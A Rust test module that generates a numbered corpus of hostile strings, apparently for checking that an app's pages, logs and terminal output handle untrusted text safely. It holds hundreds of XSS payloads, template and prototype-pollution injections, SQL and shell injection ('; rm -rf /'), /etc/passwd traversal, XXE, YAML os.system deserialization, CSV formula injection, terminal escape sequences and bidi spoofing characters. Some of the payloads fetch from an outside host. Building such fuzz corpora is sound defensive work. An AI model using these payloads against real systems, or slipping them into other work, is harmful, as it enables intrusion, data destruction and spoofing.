//! Strings that somebody who owns a cluster, a workspace or a log would try. Each carries a number
//! twice: as `c0042z`, by which it is found on the page, and in what it would do if it ran.

use std::fmt::Write as _;

/// How many there are at least, and how many of them hold no control character: a workspace's lines
/// and names have none.
pub const LEAST: usize = 500;

/// One string.
#[derive(Clone, Debug)]
pub struct Hostile {
    /// Its number.
    pub number: usize,
    /// The string, with its marker.
    pub text: String,
}

impl Hostile {
    /// What is looked for on the page.
    pub fn marker(&self) -> String {
        marker(self.number)
    }

    /// Whether it can stand where control characters cannot.
    pub fn is_line(&self) -> bool {
        !self.text.chars().any(char::is_control)
    }
}

fn marker(number: usize) -> String {
    format!("c{number:04}z")
}

/// All of them. `outside` is a host and port where a request would be noticed.
pub fn corpus(outside: &str) -> Vec<Hostile> {
    let mut texts = Vec::new();
    scripts(&mut texts);
    handlers(&mut texts);
    embedded(&mut texts);
    drawings(&mut texts);
    addresses(&mut texts);
    templates(&mut texts);
    styles(&mut texts);
    encodings(&mut texts);
    directions(&mut texts);
    terminals(&mut texts);
    controls(&mut texts);
    shapes(&mut texts);
    let numbered = texts.into_iter().enumerate();
    numbered
        .map(|(number, text)| Hostile {
            number,
            text: filled(&text, number, outside),
        })
        .collect()
}

/// `JS` is what would run, `OUT` where a request would go. The marker stands in front, so that a
/// column that cuts long texts still shows it.
fn filled(text: &str, number: usize, outside: &str) -> String {
    let script = match number % 4 {
        0 => format!("window.__pwned={number}"),
        1 => format!("document.title='pwned{number}'"),
        2 => format!("document.body.dataset.pwned={number}"),
        _ => format!("fetch('http://{outside}/{number}')"),
    };
    let text = text.replace("JS", &script);
    let text = text.replace("OUT", &format!("http://{outside}/{number}"));
    format!("{}{text}", marker(number))
}

/// What a string would have to get out of first.
const WAYS_OUT: [&str; 8] = [
    "",
    "\">",
    "'>",
    "-->",
    "</textarea>",
    "</title></style></script>",
    "]]>",
    "`}>",
];

fn with_ways_out(into: &mut Vec<String>, all: &[String]) {
    for (index, text) in all.iter().enumerate() {
        into.push(format!("{}{text}", WAYS_OUT[index % WAYS_OUT.len()]));
    }
}

fn scripts(into: &mut Vec<String>) {
    let all = [
        "<script>JS</script>",
        "<SCRIPT>JS</SCRIPT>",
        "<script src=OUT></script>",
        "<script type=module>JS</script>",
        "<script>/*",
        "<scr<script>ipt>JS</scr</script>ipt>",
        "<script\u{9}>JS</script>",
        "<script/x>JS</script>",
        "<script defer src='OUT'></script>",
        "<script>JS</script foo>",
        "<script async src=//OUT>",
        "<script>`${JS}`</script>",
        "<noscript><p title=\"</noscript><script>JS</script>\">",
        "<script nonce=x>JS</script>",
        "<script>import('OUT')</script>",
        "<script>new Worker('OUT')</script>",
        "<script>window.__TAURI_INTERNALS__.invoke('disarm');JS</script>",
        "<script>window.__TAURI__.core.invoke('way_back');JS</script>",
        "<template><script>JS</script></template>",
        "<xmp><script>JS</script></xmp>",
    ];
    for text in all {
        for way in [WAYS_OUT[0], WAYS_OUT[1]] {
            into.push(format!("{way}{text}"));
        }
    }
}

fn handlers(into: &mut Vec<String>) {
    let events = [
        "error",
        "load",
        "click",
        "focus",
        "blur",
        "mouseover",
        "mouseenter",
        "mousemove",
        "pointerover",
        "pointerenter",
        "pointerdown",
        "pointerrawupdate",
        "toggle",
        "wheel",
        "scroll",
        "scrollend",
        "resize",
        "animationstart",
        "animationend",
        "transitionend",
        "transitionrun",
        "beforeinput",
        "input",
        "change",
        "submit",
        "reset",
        "invalid",
        "select",
        "search",
        "keydown",
        "keyup",
        "keypress",
        "copy",
        "cut",
        "paste",
        "drag",
        "dragstart",
        "drop",
        "contextmenu",
        "auxclick",
        "dblclick",
        "play",
        "canplay",
        "loadstart",
        "loadedmetadata",
        "durationchange",
        "timeupdate",
        "hashchange",
        "popstate",
        "pageshow",
        "message",
        "storage",
        "unload",
        "beforeunload",
        "afterprint",
        "beforetoggle",
        "finish",
        "start",
        "bounce",
        "begin",
        "end",
        "repeat",
        "cuechange",
        "securitypolicyviolation",
    ];
    let tags = [
        "img src=x",
        "svg",
        "body",
        "input autofocus",
        "details open",
        "video src=x",
        "audio src=x",
        "marquee",
        "select autofocus",
        "textarea autofocus",
        "button autofocus",
        "div tabindex=1 autofocus",
        "a href=# autofocus",
        "iframe src=x",
        "object data=x",
        "x contenteditable autofocus",
    ];
    let mut all = Vec::new();
    for (index, event) in events.iter().enumerate() {
        let tag = tags[index % tags.len()];
        all.push(format!("<{tag} on{event}=JS>"));
        all.push(format!("<{tag}/on{event}=\"JS\"//"));
        all.push(format!(
            "<{} on{event}='JS' ",
            tags[(index + 5) % tags.len()]
        ));
    }
    for text in [
        "\" onmouseover=\"JS\" x=\"",
        "' onfocus='JS' autofocus x='",
        "x onerror=JS",
        "`onerror=`JS",
        "\" autofocus onfocus=JS //",
        "<img src=\"x\" oNeRrOr=\"JS\">",
        "<img src=x onerror\u{c}=JS>",
        "<img\u{b}src=x\u{b}onerror=JS>",
        "<img src=x:x onerror=&#74;&#83;>",
        "<img src=OUT>",
        "<img srcset=\"OUT 1x\">",
        "<image src=x onerror=JS>",
        "<picture><source srcset=OUT><img></picture>",
        "<input type=image src=OUT>",
        "<video poster=OUT>",
        "<body background=OUT>",
        "<table background=OUT>",
        "<img src=x onerror=JS",
        "<<img src=x onerror=JS>",
        "<img src='x' onerror='JS' style='position:fixed;inset:0;z-index:99999'>",
    ] {
        all.push(text.to_owned());
    }
    with_ways_out(into, &all);
}

fn embedded(into: &mut Vec<String>) {
    let all: Vec<String> = [
        "<iframe src=\"javascript:JS\"></iframe>",
        "<iframe srcdoc=\"<script>parent.JS</script>\"></iframe>",
        "<iframe src=OUT></iframe>",
        "<object data=\"javascript:JS\"></object>",
        "<object data=OUT></object>",
        "<embed src=\"javascript:JS\">",
        "<embed src=OUT>",
        "<frameset onload=JS>",
        "<base href=OUT>",
        "<link rel=stylesheet href=OUT>",
        "<link rel=import href=OUT>",
        "<link rel=prefetch href=OUT>",
        "<link rel=preconnect href=OUT>",
        "<link rel=dns-prefetch href=OUT>",
        "<link rel=manifest href=OUT>",
        "<link rel=icon href=OUT>",
        "<meta http-equiv=refresh content=\"0;url=OUT\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:JS\">",
        "<meta http-equiv=content-security-policy content=\"script-src * 'unsafe-inline'\">",
        "<meta charset=utf-7>",
        "<form action=OUT><input type=submit autofocus></form>",
        "<form><button formaction=\"javascript:JS\">x",
        "<isindex action=OUT>",
        "<a href=\"javascript:JS\">x</a>",
        "<a href=OUT target=_blank>x</a>",
        "<a ping=OUT href=#>x</a>",
        "<area href=OUT>",
        "<math><maction actiontype=statusline xlink:href=\"javascript:JS\">x",
        "<portal src=OUT>",
        "<fencedframe src=OUT>",
        "<applet code=OUT>",
        "<bgsound src=OUT>",
        "<track src=OUT>",
        "<dialog open style=position:fixed>",
        "<details open ontoggle=JS>",
        "<slot onslotchange=JS>",
        "<keygen autofocus onfocus=JS>",
        "<x-element onclick=JS>",
        "<template shadowrootmode=open><script>JS</script></template>",
        "<plaintext>",
    ]
    .map(str::to_owned)
    .to_vec();
    with_ways_out(into, &all);
}

fn drawings(into: &mut Vec<String>) {
    let all: Vec<String> = [
        "<svg onload=JS>",
        "<svg><script>JS</script></svg>",
        "<svg><script href=OUT /></svg>",
        "<svg><a xlink:href=\"javascript:JS\"><text>x</text></a></svg>",
        "<svg><animate onbegin=JS attributeName=x dur=1s>",
        "<svg><set attributeName=onmouseover to=JS>",
        "<svg><animate attributeName=href values=\"javascript:JS\">",
        "<svg><use href=\"data:image/svg+xml,<svg id=x onload=JS>#x\">",
        "<svg><use href=OUT#x>",
        "<svg><image href=OUT onerror=JS>",
        "<svg><foreignObject><iframe srcdoc=x onload=JS></foreignObject></svg>",
        "<svg><style>@import 'OUT'</style></svg>",
        "<svg><feImage href=OUT>",
        "<svg><desc><![CDATA[</desc><script>JS</script>]]></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=JS>\">",
        "<svg><handler type=text/ecmascript>JS</handler></svg>",
        "<svg><discard onbegin=JS>",
        "<math href=\"javascript:JS\">x</math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=1 onerror=JS>\">",
        "<math><annotation-xml encoding=\"text/html\"><script>JS</script></annotation-xml></math>",
        "<math><mi xlink:href=\"javascript:JS\">x",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=JS>",
        "<svg><title><img src=x onerror=JS></title></svg>",
        "<svg/onload=JS//",
    ]
    .map(str::to_owned)
    .to_vec();
    with_ways_out(into, &all);
}

fn addresses(into: &mut Vec<String>) {
    for text in [
        "javascript:JS",
        "JaVaScRiPt:JS",
        "java\u{9}script:JS",
        "java\nscript:JS",
        "\u{1}javascript:JS",
        " javascript:JS",
        "javascript&colon;JS",
        "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+JS//'>",
        "data:text/html,<script>JS</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
        "data:image/svg+xml,<svg onload=JS>",
        "vbscript:JS",
        "blob:JS",
        "view-source:OUT",
        "file:///etc/passwd",
        "tauri://localhost/<script>JS</script>",
        "ipc://localhost/disarm",
        "asset://localhost//etc/passwd",
        "about:blank#JS",
        "//OUT",
        "\\\\evil.example\\share\\JS",
        "https://docs.example@evil.example/JS",
        "https://docs.example\u{2215}evil.example/JS",
        "https://аррӏе.example/JS",
        "https://evil.example/\u{202e}gpj.exe?JS",
        "mailto:x@evil.example?body=JS",
        "ssh://-oProxyCommand=JS/x",
        "jar:OUT!/JS",
        "x-scheme-handler:JS",
        "feed:javascript:JS",
    ] {
        into.push(text.to_owned());
    }
}

fn templates(into: &mut Vec<String>) {
    for text in [
        "{{JS}}",
        "{{constructor.constructor('JS')()}}",
        "{{{JS}}}",
        "${JS}",
        "`${JS}`",
        "#{JS}",
        "<%= JS %>",
        "<%- JS %>",
        "[[JS]]",
        "[% JS %]",
        "{% JS %}",
        "{JS}",
        "{@html '<img src=x onerror=JS>'}",
        "{#if JS}x{/if}",
        "{@debug JS}",
        "{@const x = JS}",
        "{@render JS}",
        "{#await JS}{/await}",
        "<svelte:head><script>JS</script></svelte:head>",
        "<svelte:window onload={JS} />",
        "<svelte:element this=\"script\">JS</svelte:element>",
        "<div v-html=\"JS\">",
        "<div ng-app ng-csp><input ng-focus=JS autofocus>",
        "<div x-data x-init=JS>",
        "<div hx-get=OUT hx-trigger=load>",
        "*{JS}",
        "@{JS}",
        "#set($x=JS)",
        "{{7*7}}JS",
        "${{<%[%'\"}}%\\.JS",
        "%(JS)s %s %n %x %p",
        "{0} {title} {stage} {module} JS",
        "$$props $$slots $$restProps JS",
        "__proto__[pwned]=JS",
        "constructor.prototype.pwned=JS",
        "toString",
        "{\"__proto__\":{\"pwned\":\"JS\"}}",
        "=cmd|'/c JS'!A0",
        "@SUM(1+1)*JS",
        "+JS",
        "-JS",
        "'; DROP TABLE entries; --JS",
        "\" OR 1=1 --JS",
        "$(JS)",
        "; rm -rf / #JS",
        "| JS",
        "../../../../etc/passwd#JS",
        "%2e%2e%2f%2e%2e%2fJS",
        "<!ENTITY x SYSTEM \"file:///etc/passwd\">JS",
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y \"JS\">]>&y;",
        "<?php JS ?>",
        "<![endif]--><script>JS</script>",
        "<!--[if gte IE 4]><script>JS</script><![endif]-->",
        "!!python/object/apply:os.system [JS]",
        "&anchor *alias JS",
        "<b>bold</b><i>italic</i><u>JS</u>",
        "**bold** [x](javascript:JS) ![x](OUT)",
        "<a href=x>JS</a>",
    ] {
        into.push(text.to_owned());
    }
}

fn styles(into: &mut Vec<String>) {
    let all: Vec<String> = [
        "<style>*{display:none}</style>JS",
        "<style>@import 'OUT';</style>",
        "<style>body{background:url(OUT)}</style>",
        "<style>[data-testid=banner]{visibility:hidden!important}</style>JS",
        "<style>@font-face{font-family:x;src:url(OUT)}*{font-family:x}</style>",
        "<div style=\"position:fixed;inset:0;z-index:2147483647;background:red\">JS</div>",
        "<div style=\"background:url(OUT)\">",
        "<div style=\"width:expression(JS)\">",
        "<div style=\"behavior:url(OUT)\">",
        "<div style=\"-moz-binding:url(OUT)\">",
        "\" style=\"position:fixed;inset:0\" x=\"JS",
        "}*{display:none}/*JS",
        "</style><script>JS</script>",
        "color:red;background:url(OUT)",
        "<link rel=stylesheet href='data:text/css,*{display:none}'>JS",
        "<style onload=JS></style>",
        "<p style=\"animation:x\" onanimationstart=JS>",
        "<div class=\"scrim dialog\" data-testid=\"way-back\">JS</div>",
        "<font size=99 color=red>JS</font>",
        "<marquee width=9999 height=9999>JS</marquee>",
        "<center><h1>JS</h1></center>",
        "<pre style=font-size:900px>JS</pre>",
    ]
    .map(str::to_owned)
    .to_vec();
    with_ways_out(into, &all);
}

fn encodings(into: &mut Vec<String>) {
    for text in [
        "&lt;script&gt;JS&lt;/script&gt;",
        "&#60;img src=x onerror=JS&#62;",
        "&#x3c;img src=x onerror=JS&#x3e;",
        "&#0000060img src=x onerror=JS>",
        "&lt&lt;img src=x onerror=JS>",
        "&amp;lt;script&amp;gt;JS",
        "\\u003cimg src=x onerror=JS\\u003e",
        "\\x3cscript\\x3eJS\\x3c/script\\x3e",
        "%3Cimg%20src=x%20onerror=JS%3E",
        "%253Cscript%253EJS",
        "\\74script\\76JS",
        "+ADw-script+AD4-JS+ADw-/script+AD4-",
        "＜script＞JS＜/script＞",
        "﹤img src=x onerror=JS﹥",
        "‹script›JS‹/script›",
        "<ſcript>JS</ſcript>",
        "<İmg src=x onerror=JS>",
        "<\u{301}script>JS</script>",
        "<img src=x onerror=\u{2028}JS>",
        "<img src=x\u{2029}onerror=JS>",
        "<img\u{a0}src=x\u{a0}onerror=JS>",
        "<img\u{3000}src=x onerror=JS>",
        "<img\u{85}src=x onerror=JS>",
        "\u{feff}<script>JS</script>",
        "<scr\u{200b}ipt>JS</scr\u{200b}ipt>",
        "<scr\u{ad}ipt>JS</script>",
        "\u{1f480}<script>JS</script>\u{1f480}",
        "\u{e0041}\u{e0042}<img src=x onerror=JS>",
        "\u{fffd}<img src=x onerror=JS>",
        "\u{fff9}a\u{fffa}b\u{fffb}<img src=x onerror=JS>",
        "&NewLine;&Tab;javascript&colon;JS",
        "&quot;&gt;&lt;svg onload=JS&gt;",
        "\\\"><svg onload=JS>",
        "\\';JS//",
        "\";JS//",
        "';JS//",
        "</script><script>JS//",
        "\u{202f}<svg\u{2003}onload=JS>",
        "жё<script>JS</script>中文",
        "\u{1d4bc}\u{1d4c1}<script>JS</script>",
    ] {
        into.push(text.to_owned());
    }
}

/// Characters that turn text around or hide in it, each alone, around a name, and around a tag.
fn directions(into: &mut Vec<String>) {
    let unseen = ('\u{202a}'..='\u{202e}')
        .chain('\u{2066}'..='\u{2069}')
        .chain('\u{200b}'..='\u{200f}')
        .chain([
            '\u{feff}', '\u{61c}', '\u{180e}', '\u{2060}', '\u{2062}', '\u{206a}', '\u{ad}',
        ]);
    for unseen in unseen {
        into.push(format!("bj-prod{unseen}-01 JS"));
        into.push(format!("{unseen}<img src=x onerror=JS>{unseen}"));
        into.push(format!("safe{unseen}>SJ=rorreno x=crs gmi<{unseen} JS"));
    }
    into.push("\u{202e}\u{2066}\u{2067}\u{202d}nested JS".to_owned());
    into.push(format!("{}JS", "\u{202e}".repeat(200)));
    into.push(format!("{}JS", "\u{200b}".repeat(2000)));
    into.push("שלום <script>JS</script> مرحبا".to_owned());
    into.push("\u{5d0}\u{5d1}\u{5d2} 1.2.3 \u{5d3} JS".to_owned());
}

fn terminals(into: &mut Vec<String>) {
    for text in [
        "\u{1b}[31mred JS\u{1b}[0m",
        "\u{1b}[2J\u{1b}[H JS",
        "\u{1b}[1A\u{1b}[2K level=info all is well JS",
        "\u{1b}]0;JS\u{7}",
        "\u{1b}]8;;OUT\u{1b}\\click\u{1b}]8;;\u{1b}\\",
        "\u{1b}]52;c;SlM=\u{7}JS",
        "\u{1b}]1337;File=inline=1:JS\u{7}",
        "\u{1b}P1;1|JS\u{1b}\\",
        "\u{1b}_GJS\u{1b}\\",
        "\u{1b}[?1049h JS",
        "\u{1b}[6n JS",
        "\u{1b}[c JS",
        "\u{1b}c JS",
        "\u{9b}31m JS",
        "\u{9d}0;JS\u{9c}",
        "\u{90}JS\u{9c}",
        "\u{8}\u{8}\u{8}\u{8}ok JS",
        "\rlevel=info ok JS",
        "\u{7}\u{7}\u{7}JS",
        "\u{e}JS\u{f}",
        "\u{1b}[38;2;255;0;0mJS",
        "\u{1b}[8mhidden\u{1b}[28m JS",
        "\u{1b}#8 JS",
        "\u{1b}[10000;10000H JS",
        "\u{1b}%G JS",
        "\u{1b}(0 JS",
        "\u{1b}[5i JS",
        "\u{1b}]10;?\u{7} JS",
        "\u{1b}[>q JS",
        "\u{1b}\u{1b}\u{1b} JS",
    ] {
        into.push(text.to_owned());
    }
}

/// Every control character inside a tag: some parsers take some of them for spaces.
fn controls(into: &mut Vec<String>) {
    let all = ('\u{0}'..='\u{1f}').chain('\u{7f}'..='\u{9f}');
    for control in all {
        into.push(format!("<img{control}src=x onerror{control}=JS>"));
    }
}

/// Text that breaks a layout instead of a parser.
fn shapes(into: &mut Vec<String>) {
    into.push(format!("{}JS", "W".repeat(10_240)));
    into.push(format!("{}JS", "长".repeat(3_000)));
    into.push(format!(
        "{}JS",
        "\u{1f3f4}\u{200d}\u{2620}\u{fe0f}".repeat(200)
    ));
    into.push("\u{fdfd}\u{fdfd}\u{fdfd}\u{12031}\u{12031}JS".to_owned());
    for seed in 0..6_u32 {
        let mut pile = String::new();
        for letter in "ZALGO".chars() {
            pile.push(letter);
            for mark in 0..40_u32 {
                let mark = 0x300 + (seed * 31 + mark * 7) % 0x70;
                pile.extend(char::from_u32(mark));
            }
        }
        let _ = write!(pile, " JS");
        into.push(pile);
    }
}

#[test]
fn there_are_enough_of_them_and_each_is_another_one() {
    let all = corpus("127.0.0.1:9");
    assert!(all.iter().filter(|one| one.is_line()).count() >= LEAST);
    let mut texts: Vec<_> = all
        .iter()
        .map(|one| one.text.replace(&one.marker(), ""))
        .collect();
    texts.sort();
    texts.dedup();
    assert_eq!(texts.len(), all.len());
    // Most would do something if they were taken for what they look like.
    let armed = all
        .iter()
        .filter(|one| one.text.contains(&one.number.to_string()));
    assert!(armed.count() >= LEAST);
    for wanted in ('\u{202a}'..='\u{202e}').chain('\u{2066}'..='\u{2069}') {
        assert!(all.iter().any(|one| one.text.contains(wanted)));
    }
    println!(
        "{} strings, {} of them without control characters",
        all.len(),
        all.iter().filter(|one| one.is_line()).count()
    );
}
